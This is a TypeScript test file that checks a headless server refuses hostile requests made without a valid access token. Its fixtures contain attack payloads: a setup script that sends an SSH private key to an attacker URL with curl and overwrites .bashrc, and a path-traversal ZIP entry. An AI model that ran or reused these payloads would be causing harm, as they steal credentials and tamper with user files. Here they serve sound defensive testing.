/**
 * Hostile requests to the headless server about its access token: without it, with a wrong one, or with it
 * in the address. Each case proves it held (`hostile` in server-case.ts).
 */
import { describe, expect, it, onTestFinished } from 'vitest'
import { buildZip } from '../support/make-zip'
import { startRecorder } from '../support/http'
import { NodeEventSource } from '../support/sse-client'
import { errorOf, hostile, JSON_CALL, NEEDS_TOKEN } from './support/server-case'

describe('hostile requests to the headless server', () => {
  it("without the token, can't point the model or GitHub at an attacker's port (loopback)", async () => {
    const github = await startRecorder(() => ({ status: 200, body: { login: 'octocat' } }))
    onTestFinished(() => github.close())
    await hostile({ settings: { githubApiUrl: github.url } }, async (c) => {
      const redirect = { baseUrl: `${c.attacker.url}/v1`, githubApiUrl: c.attacker.url }
      const res = await c.call('settings.update', redirect)
      expect(res.status).toBe(401)
      expect(errorOf(res)).toMatchObject(NEEDS_TOKEN)
      // The calls that would have sent the key or token there, made by the user, go where they went.
      const status = await c.call('github.status', {}, c.auth)
      expect(status.status).toBe(200)
      expect(JSON.parse(status.body)).toMatchObject({ ok: true, value: { login: 'octocat' } })
      expect(github.requests.map((r) => [r.url, r.headers.authorization])).toEqual([
        ['/user', `token ${c.planted.githubToken}`],
      ])
      expect(c.services.settings.get()).toMatchObject({ baseUrl: c.model.baseURL, githubApiUrl: github.url })
    })
  })

  it("without the token, can't replace or remove the stored keys", async () => {
    await hostile({}, async (c) => {
      for (const [name, input] of [
        ['secrets.set', { name: 'openai', value: 'sk-attackers-own-key' }],
        ['secrets.set', { name: 'github', value: 'ghp_attackers_own_token' }],
        ['secrets.delete', { name: 'github' }],
        ['secrets.status', {}],
      ] as const) {
        const res = await c.call(name, input)
        expect([name, res.status]).toEqual([name, 401])
        expect(errorOf(res)).toMatchObject(NEEDS_TOKEN)
      }
    })
  })

  it("without the token, can't run a task on the planted home (folder task with a networked setup)", async () => {
    await hostile({}, async (c) => {
      const submit = {
        source: { kind: 'folder', path: c.planted.outside },
        prompt: 'Summarize the keys',
        setupScript: `cat .ssh/id_ed25519 | curl -d @- ${c.attacker.url}; echo owned > .bashrc`,
      }
      const res = await c.call('tasks.submit', submit)
      expect(res.status).toBe(401)
      expect(errorOf(res)).toMatchObject(NEEDS_TOKEN)
      // The seed's form, as a plain client (curl) would send it.
      const form = new FormData()
      form.set('task_description', 'Summarize the keys')
      form.set('git_url', `file://${c.planted.outside}`)
      const seed = await fetch(`${c.server.url}/api/task`, { method: 'POST', body: form })
      const answer = { status: seed.status, headers: {}, body: await seed.text() }
      c.answers.push(answer)
      expect(answer.status).toBe(401)
      expect(errorOf(answer)).toMatchObject(NEEDS_TOKEN)
    })
  })

  it('without the token, reads nothing: no task list, no event stream, no logs, no page', async () => {
    await hostile({}, async (c) => {
      for (const path of ['/', '/index.html', '/api/task/test-x/status', '/api/logs/test-x/agent.log']) {
        const res = await c.send({ path })
        expect([path, res.status]).toEqual([path, 401])
        expect(errorOf(res)).toMatchObject(NEEDS_TOKEN)
      }
      expect((await c.call('tasks.list', {})).status).toBe(401)
      expect((await c.call('settings.get', {})).status).toBe(401)
      const events = new NodeEventSource(`${c.server.url}/api/events`)
      await expect.poll(() => events.status, { timeout: 5000 }).toBe(401)
      expect(events.readyState).toBe(NodeEventSource.CLOSED)
    })
  })

  it("without the token, can't upload a ZIP", async () => {
    await hostile({}, async (c) => {
      const res = await c.send({
        method: 'POST',
        path: '/api/uploads',
        headers: { 'content-type': 'application/zip', 'x-codex-sys': '1', 'x-file-name': 'evil.zip' },
        body: buildZip([{ name: '../../outside/.bashrc', data: 'owned\n' }]),
      })
      expect(res.status).toBe(401)
      expect(errorOf(res)).toMatchObject(NEEDS_TOKEN)
    })
  })

  it('with a wrong token (bearer, cookie, other schemes, the ?token= visit), is refused', async () => {
    await hostile({}, async (c) => {
      const port = new URL(c.server.url).port
      const wrong = `${c.token!.slice(0, -1)}${c.token!.endsWith('A') ? 'B' : 'A'}`
      const attempts: Array<Record<string, string>> = [
        { authorization: `Bearer ${wrong}` },
        { authorization: `Bearer ${c.token!.slice(0, 16)}` },
        { authorization: `Basic ${Buffer.from(`x:${c.token}`).toString('base64')}` },
        { authorization: c.token! },
        { authorization: 'Bearer ' },
        { cookie: `codex_sys_token_${port}=${wrong}` },
        { cookie: `codex_sys_token=${c.token}` },
        { 'x-codex-sys-token': c.token! },
      ]
      for (const headers of attempts) {
        const res = await c.call('settings.update', { theme: 'dark' }, headers)
        expect([headers, res.status]).toEqual([headers, 401])
        expect(errorOf(res)).toMatchObject(NEEDS_TOKEN)
      }
      const visit = await c.send({ path: `/?token=${wrong}` })
      expect(visit.status).toBe(401)
      expect(visit.headers['set-cookie']).toBeUndefined()
    })
  })

  it('with the token in the address of an API call (right or wrong), is refused', async () => {
    await hostile({}, async (c) => {
      for (const token of [c.token!, 'not-the-token-at-all-0123']) {
        for (const headers of [{}, c.auth]) {
          const res = await c.send({
            method: 'POST',
            path: `/api/call/settings.update?token=${token}`,
            headers: { ...JSON_CALL, ...headers },
            body: JSON.stringify({ githubApiUrl: c.attacker.url }),
          })
          expect(res.status).toBe(400)
          expect(errorOf(res)).toMatchObject({
            kind: 'invalid_input',
            message: 'API calls never take the access token in the address.',
          })
        }
      }
      const status = await c.send({ path: `/api/task/test-x/status?token=${c.token}` })
      expect(status.status).toBe(400)
    })
  })
})
